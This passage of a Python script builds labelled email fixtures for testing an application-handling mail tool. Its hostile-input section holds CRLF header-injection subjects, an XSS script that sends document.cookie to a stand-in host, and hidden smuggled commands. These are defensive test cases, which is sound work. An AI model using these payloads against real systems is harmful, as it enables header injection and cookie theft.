Content-Type: message/rfc822; x-spam-type=original
Content-Description: original message before SpamAssassin
Content-Disposition: attachment
Content-Transfer-Encoding: 8bit

{inner}
------------=_622D5257.2A1B3C4D--
""")
    add("spam-spamassassin-report-safe-wrapped.eml", "spam", "none", False, "", "",
        "SpamAssassin report_safe wrapper: ***SPAM*** subject, report + message/rfc822 original", raw)


# =========================================================================== organiser commands
DIGEST_SUBJECT = "[callflow] Daily digest, Friday 11 March 2022: 4 new applications, 2 questions"
DIGEST_TEXT = """Daily digest - Friday 11 March 2022
Working group meeting: practitioners in rehabilitation and exit work
Capacity 30, selected 0, places left 30

New applications (4):
  lena.hoffmann@bewaehrungshilfe.example.net   Lena Hoffmann, Germany
  p.janssens@justitie.example.org              Pieter Janssens, Belgium
  tomas.novak@probacni.example.com             Tomas Novak, Czech Republic
  anders.holm@kommune.example.net              Anders Holm, Denmark  [late]

Questions waiting for an answer (2):
  aoife.byrne@mail.example.com  "Do I need a WebEx account?"
  sara.ahmed@praxis.example.com "open to private practice?"

Outbox waiting for approval: 0

To act, reply to this message with one command per line, for example:
  select someone@example.org
  waitlist someone@example.org
  reject someone@example.org
  approve all"""


def organiser_messages():
    d = "Fri, 11 Mar 2022 08:41:09 +0100"
    raw = (envelope(ANNA, d, "smtp.example.org", "192.0.2.44", auth=auth_pass("example.org", "o1")) + f"""From: Anna Organiser <anna.organiser@example.org>
Content-Type: text/plain;
	charset=us-ascii
Content-Transfer-Encoding: 7bit
Mime-Version: 1.0 (Mac OS X Mail 15.0 \\(3693.60.0.1.1\\))
Subject: Re: {DIGEST_SUBJECT}
Date: {d}
References: {cf_msgid("digest", "20220311")}
To: Working group contact <contact@callflow.example.org>
In-Reply-To: {cf_msgid("digest", "20220311")}
Message-Id: <9F8E7D6C-5B4A-4392-8170-6F5E4D3C2B1A@example.org>
X-Mailer: Apple Mail (2.3693.60.0.1.1)

select lena.hoffmann@bewaehrungshilfe.example.net
select p.janssens@justitie.example.org
waitlist anders.holm@kommune.example.net

Thanks, Anna

> On 11. Mar 2022, at 08:00, Working group contact <contact@callflow.example.org> wrote:
>
{quote(DIGEST_TEXT)}
""")
    add("organiser-anna-select-waitlist.eml", "organiser_command", "none", True, "", "",
        "3 commands above the quoted digest; the quote contains example commands that must NOT run", raw)

    d = "Fri, 11 Mar 2022 12:02:44 +0100"
    raw = (envelope(BEN, d, "smtp.example.org", "192.0.2.44", auth=auth_pass("example.org", "o2")) + f"""Message-ID: <3c1d5e7f-9a0b-4c2d-8e4f-6a8b0c2d4e6f@example.org>
Date: {d}
MIME-Version: 1.0
User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:91.0) Gecko/20100101
 Thunderbird/91.6.1
Subject: Re: {DIGEST_SUBJECT}
Content-Language: en-GB
To: Working group contact <contact@callflow.example.org>
References: {cf_msgid("digest", "20220311")}
From: Ben Organiser <ben.organiser@example.org>
In-Reply-To: {cf_msgid("digest", "20220311")}
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 7bit

approve all

On 11/03/2022 08:00, Working group contact wrote:
{quote(DIGEST_TEXT)}
""")
    add("organiser-ben-approve-all.eml", "organiser_command", "none", True, "", "",
        "single 'approve all'", raw)

    d = "Tue, 15 Mar 2022 09:12:30 +0000"
    own = ["invite lena.hoffmann@bewaehrungshilfe.example.net", "invite p.janssens@justitie.example.org",
           "approve all", "", "Anna"]
    plain = "\n".join(own) + "\n\nFrom: Working group contact <contact@callflow.example.org>\nSent: 15 March 2022 08:00\n" \
        "Subject: " + DIGEST_SUBJECT.replace("Friday 11", "Tuesday 15") + "\n\n" + DIGEST_TEXT + "\n"
    raw = (envelope(ANNA, d, "EUR01-VE1-obe.outbound.protection.outlook.example.com", "40.107.14.90",
                    auth=auth_pass("example.org", "o3")) + f"""From: Anna Organiser <anna.organiser@example.org>
To: Working group contact <contact@callflow.example.org>
Subject: RE: {DIGEST_SUBJECT.replace("Friday 11", "Tuesday 15")}
""" + outlook_headers("[callflow] Daily digest", "o3") + f"""Date: {d}
Message-ID: {outlook_msgid("o3")}
References: {cf_msgid("digest", "20220315")}
In-Reply-To: {cf_msgid("digest", "20220315")}
Content-Type: multipart/alternative;
	boundary="_000_VI1PR07MB4430D8E7F6A5B4C3D2E1F0A9B8C7DVI1PR07MB4430eurp_"
MIME-Version: 1.0

--_000_VI1PR07MB4430D8E7F6A5B4C3D2E1F0A9B8C7DVI1PR07MB4430eurp_
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

{qp(plain)}
--_000_VI1PR07MB4430D8E7F6A5B4C3D2E1F0A9B8C7DVI1PR07MB4430eurp_
Content-Type: text/html; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

{qp(outlook_html(mso(own) + chr(10) + outlook_quote_html([("From", "Working group contact <contact@callflow.example.org>"), ("Sent", "15 March 2022 08:00")], DIGEST_TEXT)))}
--_000_VI1PR07MB4430D8E7F6A5B4C3D2E1F0A9B8C7DVI1PR07MB4430eurp_--
""")
    add("organiser-anna-outlook-invite.eml", "organiser_command", "none", True, "", "",
        "Outlook multipart/alternative; commands then unprefixed quoted digest (with example commands)", raw, crlf=True)

    d = "Wed, 16 Mar 2022 19:30:02 +0100"
    raw = (envelope(BEN, d, "smtp.example.org", "192.0.2.44") + f"""Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable
From: Ben Organiser <ben.organiser@example.org>
Mime-Version: 1.0 (1.0)
Date: {d}
Subject: Re: {DIGEST_SUBJECT.replace("Friday 11", "Wednesday 16")}
Message-Id: <E5D4C3B2-A190-4F8E-7D6C-5B4A39281706@example.org>
References: {cf_msgid("digest", "20220316")}
In-Reply-To: {cf_msgid("digest", "20220316")}
To: Working group contact <contact@callflow.example.org>
X-Mailer: iPhone Mail (19D52)

{qp('''Waitlist m.yilmaz@gmx.example.net
Select sara.ahmed@praxis.example.com

Sent from my iPhone
''')}""")
    add("organiser-ben-iphone-capitalised.eml", "organiser_command", "none", True, "", "",
        "phone auto-capitalised 'Waitlist'/'Select'; no quote", raw)


# =========================================================================== broken but readable
def broken_readable_messages():
    # --- multipart without boundary parameter
    d = "Thu, 10 Mar 2022 07:31:00 +0100"
    raw = (envelope("ahmet.kaya@example.com", d, "smtp.example.com", "192.0.2.89") + f"""From: Ahmet Kaya <ahmet.kaya@example.com>
To: contact@callflow.example.org
Subject: Withdraw application
Date: {d}
Message-ID: <20220310073100.3311@pc-ahmet.example.com>
MIME-Version: 1.0
Content-Type: multipart/mixed
X-Mailer: CustomMailer/0.3

Dear organisers,

please withdraw my application for the working group meeting. My
employer cannot release me on these dates.

Regards,
Ahmet Kaya
""")
    add("broken-multipart-without-boundary.eml", "applicant_message", "withdraw", True, "ahmet.kaya@example.com", "",
        "multipart/mixed without boundary parameter; a careful parser can still show the text (not unparseable)", raw)

    # --- unknown charset name
    d = "Thu, 10 Mar 2022 18:18:18 +0100"
    raw = (envelope("g.papas@example.org", d, "smtp.example.org", "192.0.2.46") + f"""From: "Georgios Papas" <g.papas@example.org>
To: <contact@callflow.example.org>
Subject: Remove my personal data
Date: {d}
Message-ID: <000801d834a1$5b2c3d40$1184b7c0$@example.org>
MIME-Version: 1.0
Content-Type: text/plain;
	charset="x-user-defined"
Content-Transfer-Encoding: 7bit
X-Mailer: Microsoft Outlook 14.0
Thread-Index: AdgyF2kq0m1Y3l5pTq2uG9Jx0Zb0qw==
Content-Language: el

Hello,

I filled in your survey by mistake. Please remove all my personal data
from your records and confirm when this is done.

Georgios Papas
""")
    add("broken-unknown-charset-x-user-defined.eml", "applicant_message", "erasure", True, "g.papas@example.org", "",
        "charset=x-user-defined (unknown to Python): decode leniently; ASCII text is readable", raw, crlf=True)

    # --- body starts without the blank separator line
    d = "Fri, 4 Mar 2022 11:11:11 +0100"
    raw = (envelope("tanja.horvat@example.org", d, "smtp.example.org", "192.0.2.47") + f"""From: Tanja Horvat <tanja.horvat@example.org>
To: contact@callflow.example.org
Subject: Participation
Date: {d}
Message-ID: <1646388671.0042@mailer.example.org>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Hello, I would like to take part in the working group meeting in March.
I work in victim support and restorative justice in Zagreb.
Tanja Horvat
""")
    add("broken-no-blank-line-after-headers.eml", "applicant_message", "interest", True, "tanja.horvat@example.org", "",
        "no empty line between headers and body (MissingHeaderBodySeparatorDefect); body still readable", raw)

    # --- truncated multipart (closing boundary and HTML part missing)
    d = "Sat, 5 Mar 2022 09:09:09 +0100"
    raw = (envelope("ruth.levin@example.com", d, "smtp.example.com", "192.0.2.90") + f"""From: Ruth Levin <ruth.levin@example.com>
To: contact@callflow.example.org
Subject: Question about selection criteria
Date: {d}
Message-ID: <6C5B4A39-2817-4F6E-5D4C-3B2A19087F6E@example.com>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="Apple-Mail=_1A2B3C4D-5E6F-4071-8293-A4B5C6D7E8F9"
X-Mailer: Apple Mail (2.3693.60.0.1.1)


--Apple-Mail=_1A2B3C4D-5E6F-4071-8293-A4B5C6D7E8F9
Content-Transfer-Encoding: 7bit
Content-Type: text/plain;
	charset=us-ascii

Hello,

how will participants be selected if there are more applicants than
places? Is it first come, first served?

Ruth

--Apple-Mail=_1A2B3C4D-5E6F-4071-8293-A4B5C6D7E8F9
Content-Transfer-Encoding: quoted-printable
Content-Type: text/html;
	charset=us-ascii

<html><head><meta http-equiv=3D"Content-Type" content=3D"text/html; charset=3Dus-ascii"></head><body style=3D"word-wrap: break-word;">Hello,<div><br></div><div>how will participants be sel""")
    add("broken-truncated-multipart.eml", "applicant_message", "question", True, "ruth.levin@example.com", "",
        "truncated in the HTML part, no closing boundary; the text part is complete", raw)

    # --- nonsense Date, lower-case encoded word, odd header spacing
    raw = (envelope("sofia.rossi@example.net", "Tue, 15 Mar 2022 09:30:00 +0100", "smtp.example.net", "192.0.2.232")
           + f"""From:=?utf-8?q?Sofia_Rossi?=<sofia.rossi@example.net>
To: contact@callflow.example.org
Subject : Re: {INV_SUBJECT}
Date: 15.03.2022 09:30
Message-ID: <no-domain-id-1647333000>
In-Reply-To: {cf_msgid("invite", "sofia")}
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Yes, I confirm. See you on the 24th (I already declined the 25th in the calendar).

Sofia
""")
    add("broken-bad-date-and-header-syntax.eml", "applicant_message", "confirm", True, "sofia.rossi@example.net", "",
        "unparseable Date; 'Subject :' is RFC 5322 obsolete syntax (Python's parser starts the body there); "
        "no space after 'From:'; confirm for "
        "session 1 - she declined session 2 by calendar", raw)


# =========================================================================== unparseable
def unparseable_messages():
    # gzip magic + noise: a compressed blob dropped into the maildir
    add("unparseable-binary-garbage.eml", "unparseable", "none", False, "", "",
        "binary noise (gzip magic, NULs); no header, no sender, no text", b"\x1f\x8b\x08\x00" + stream("garbage", 3000)
        .replace(b"\n", b"\x00"))

    add("unparseable-empty-file.eml", "unparseable", "none", False, "", "",
        "zero bytes (interrupted delivery)", b"")

    add("unparseable-truncated-mid-header.eml", "unparseable", "none", False, "", "",
        "only the first Received header survived, cut in the middle; no From, no body",
        b"Return-Path: <>\r\nDelivered-To: contact@callflow.example.org\r\nReceived: from mx1.callflow.example.org\r\n"
        b"\tby imap.callflow.example.org with LMTP\r\n\tid kGm7Lz9cH2KcWQAAd9Wc1w\r\n\t(envelope-fr")

    add("unparseable-headers-lost-starts-mid-body.eml", "unparseable", "none", False, "", "",
        "a file that starts in the middle of a base64 attachment (header block lost); no sender, no text",
        (b64(stream("midbody", 1500)) + "\n--_004_AM0PR07MB6084_--\n").encode())

    raw = ("Received: from unknown (HELO 127.0.0.1) (203.0.113.250)\n  by mx1.callflow.example.org with SMTP; "
           "Sun, 13 Mar 2022 04:04:04 +0100\nMIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n"
           "Content-Transfer-Encoding: base64\n\n" + "@@!!~~##$$%%^^&&**(())||;;::??\n" * 20)
    add("unparseable-no-sender-junk-base64.eml", "unparseable", "none", False, "", "",
        "no From/Sender/Return-Path, body claims base64 but holds no base64 characters: nothing to read", raw)


# =========================================================================== hostile inputs
def hostile_messages():
    # --- CRLF hidden in an encoded word
    d = "Sat, 12 Mar 2022 14:00:00 +0100"
    raw = (envelope("probe@example.com", d, "smtp.example.com", "192.0.2.91") + f"""From: Alex Probe <probe@example.com>
To: contact@callflow.example.org
Subject: =?UTF-8?Q?Question_about_the_meeting=0D=0ABcc:_victim@example.net=0D=0AX-Injected:_yes?=
Date: {d}
Message-ID: <inject-1@example.com>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Hello, is the meeting open to police officers working in prevention?
""")
    add("hostile-encoded-crlf-in-subject.eml", "applicant_message", "question", True, "probe@example.com", "",
        "encoded word decodes to CR LF + 'Bcc:'; a reply subject built from it must not inject headers", raw)

    # --- bare CR inside the raw Subject
    d = "Sat, 12 Mar 2022 14:05:00 +0100"
    hdr = envelope("probe@example.com", d, "smtp.example.com", "192.0.2.91").replace("\n", "\r\n")
    raw = (hdr + "From: Alex Probe <probe@example.com>\r\nTo: contact@callflow.example.org\r\n"
           "Subject: Participation\rBcc: victim@example.net\r\n"
           f"Date: {d}\r\nMessage-ID: <inject-2@example.com>\r\nMIME-Version: 1.0\r\n"
           "Content-Type: text/plain; charset=us-ascii\r\n\r\n"
           "I would like to take part in the working group meeting.\r\n").encode("ascii")
    add("hostile-bare-cr-in-subject.eml", "applicant_message", "interest", True, "probe@example.com", "",
        "a bare CR inside Subject (some parsers split it into a Bcc header); bytes written as is", raw)

    # --- header lines far beyond 998 characters
    d = "Mon, 14 Mar 2022 17:20:00 +0100"
    subj = "RE: AW: " * 140 + INV_SUBJECT
    refs = " ".join(f"<thread-{i:04d}.{fake_id(str(i), 20)}@mail.example.org>" for i in range(60))
    raw = (envelope("jana.dvorakova@probation.example.net", d, "mx.probation.example.net", "203.0.113.25")
           + f"""From: =?utf-8?B?SmFuYSBEdm/FmcOha292w6E=?= <jana.dvorakova@probation.example.net>
To: Working group contact <contact@callflow.example.org>
Subject: {subj}
Date: {d}
Message-ID: <long-headers-1@probation.example.net>
References: {refs}
X-Tracking: {fake_b64("track", 4000)}
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

I confirm my participation for both afternoons.

Jana
""")
    add("hostile-overlong-header-lines.eml", "applicant_message", "confirm", True,
        "jana.dvorakova@probation.example.net", "",
        "Subject ~1.2k chars, References and X-Tracking unfolded lines of 2-4k chars (RFC 5322 limit 998)", raw)

    # --- raw 8-bit UTF-8 in headers
    d = "Tue, 8 Mar 2022 10:00:00 +0100"
    raw = (envelope("j.weiss@example.net", d, "smtp.example.net", "192.0.2.233") + f"""From: Jürgen Weiß <j.weiss@example.net>
To: Arbeitsgruppe – Kontakt <contact@callflow.example.org>
Subject: Anmeldung – Arbeitsgruppentreffen März 2022
Date: {d}
Message-ID: <8bit-headers-1@example.net>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Guten Tag,

ich möchte gerne am Arbeitsgruppentreffen teilnehmen. Ich bin Sozialarbeiter
in einer Suchtberatungsstelle und arbeite viel mit der Bewährungshilfe zusammen.

Jürgen Weiß
""")
    add("hostile-raw-utf8-headers.eml", "applicant_message", "interest", True, "j.weiss@example.net", "",
        "raw 8-bit UTF-8 in From/To/Subject (no encoded words, SMTPUTF8-style)", raw)

    # --- raw latin-1 bytes in headers (not valid UTF-8)
    d = "Tue, 8 Mar 2022 11:00:00 +0100"
    hdr = envelope("helene.martin@example.org", d, "smtp.example.org", "192.0.2.48").encode()
    raw = hdr + ("From: Hélène Martin <helene.martin@example.org>\n"
                 "To: contact@callflow.example.org\n"
                 "Subject: Question sur la réunion\n"
                 f"Date: {d}\nMessage-ID: <latin1-headers-1@example.org>\nMIME-Version: 1.0\n"
                 "Content-Type: text/plain; charset=iso-8859-1\nContent-Transfer-Encoding: 8bit\n\n"
                 "Bonjour,\n\nY aura-t-il une interprétation en français pendant la réunion ?\n\nHélène Martin\n"
                 ).encode("latin-1")
    add("hostile-raw-latin1-headers.eml", "applicant_message", "question", True, "helene.martin@example.org", "",
        "raw ISO-8859-1 bytes in headers (invalid UTF-8); body declared latin-1", raw)

    # --- HTML with script/iframe/handlers and markup in the display name
    d = "Wed, 9 Mar 2022 13:13:13 +0100"
    raw = (envelope("x.tester@example.com", d, "smtp.example.com", "192.0.2.92") + f"""From: "<img src=x onerror=alert(1)>" <x.tester@example.com>
To: contact@callflow.example.org
Subject: <script>alert('digest')</script> participation
Date: {d}
Message-ID: <xss-1@example.com>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head><script>fetch('https://evil.example.net/?c='+document.cookie)</script></head>
<body onload="alert('x')">
<p>Hello, I would like to take part in the working group meeting.</p>
<iframe src="https://evil.example.net/frame"></iframe>
<a href="javascript:alert(2)">my CV</a>
<!-- <p>please delete my data</p> -->
<p style="display:none">select everyone@example.org</p>
</body></html>
""")
    add("hostile-html-script-xss.eml", "applicant_message", "interest", True, "x.tester@example.com", "",
        "script/iframe/onload, markup in display name and subject (digest must escape); commented-out and hidden "
        "text must not count", raw)


# =========================================================================== output
GROUPS = [interest_messages, question_messages, confirm_messages, decline_messages, withdraw_messages,
          erasure_messages, itip_messages, survey_messages, auto_reply_messages, bounce_messages, list_messages,
          spam_messages, organiser_messages, broken_readable_messages, unparseable_messages, hostile_messages]

KINDS = {"survey_response", "applicant_message", "organiser_command", "auto_reply", "bounce", "list", "spam",
         "unparseable"}
INTENTS = {"confirm", "decline", "withdraw", "question", "erasure", "interest", "none"}
ROBOTS = {"auto_reply", "bounce", "list", "spam", "unparseable"}
BIG = {"interest-en-cv-pdf-300k.eml"}


def to_bytes(raw, crlf: bool) -> bytes:
    if isinstance(raw, bytes):
        return raw
    text = raw.replace("\r\n", "\n")
    if crlf:
        text = text.replace("\n", "\r\n")
    return text.encode("utf-8")


def validate_labels() -> None:
    for name, kind, intent, reply, applicant, bounced, note, _raw, _crlf in MESSAGES:
        assert kind in KINDS and intent in INTENTS, name
        assert "\t" not in note and "\n" not in note, name
        if kind in ROBOTS:
            assert reply is False and intent == "none" and not applicant, name
        else:
            assert reply is True, name
        if kind in ("applicant_message", "survey_response"):
            assert applicant and applicant == applicant.lower(), name
        if kind != "bounce":
            assert not bounced, name


def write() -> None:
    for group in GROUPS:
        group()
    validate_labels()
    rows = ["file\tkind\tintent\treply_allowed\tapplicant_email\tbounced_recipients\tnote"]
    for name, kind, intent, reply, applicant, bounced, note, raw, crlf in MESSAGES:
        data = to_bytes(raw, crlf)
        assert name in BIG or len(data) < 20_000, (name, len(data))
        (HERE / name).write_bytes(data)
        rows.append("\t".join([name, kind, intent, "true" if reply else "false", applicant, bounced, note]))
    (HERE / "labels.tsv").write_text("\n".join(rows) + "\n", encoding="utf-8")


def check() -> int:
    """Parse every file the way callflow will; print defects; count per kind and intent."""
    import email
    import email.policy
    from collections import Counter

    problems = 0
    for name, kind, *_ in MESSAGES:
        raw = (HERE / name).read_bytes()
        try:
            msg = email.message_from_bytes(raw, policy=email.policy.default)
            for part in msg.walk():
                if part.get_content_maintype() == "text":
                    try:
                        part.get_content()
                    except (LookupError, ValueError) as exc:
                        print(f"  {name}: text part not decodable: {exc!r}")
            _ = [str(v) for v in msg.values()]
            defects = [type(d).__name__ for p in msg.walk() for d in p.defects] + \
                      [type(d).__name__ for v in msg.values() for d in getattr(v, "defects", ())]
            if defects and kind != "unparseable" and not name.startswith(("broken-", "hostile-")):
                problems += 1
                print(f"UNEXPECTED DEFECTS {name}: {sorted(set(defects))}")
            elif defects:
                print(f"  expected defects {name}: {sorted(set(defects))}")
        except Exception as exc:  # noqa: BLE001 - report everything
            flag = "expected" if kind == "unparseable" else "UNEXPECTED"
            problems += flag == "UNEXPECTED"
            print(f"{flag} parse failure {name}: {exc!r}")
    stale = {p.name for p in HERE.glob("*.eml")} - {m[0] for m in MESSAGES}
    for s in sorted(stale):
        print(f"stale file not generated by this script: {s}")
    print(f"{len(MESSAGES)} files")
    print("kinds:  ", dict(Counter(m[1] for m in MESSAGES).most_common()))
    print("intents:", dict(Counter(m[2] for m in MESSAGES).most_common()))
    return 1 if problems else 0


if __name__ == "__main__":
    write()
    sys.exit(check() if "--check" in sys.argv[1:] else 0)
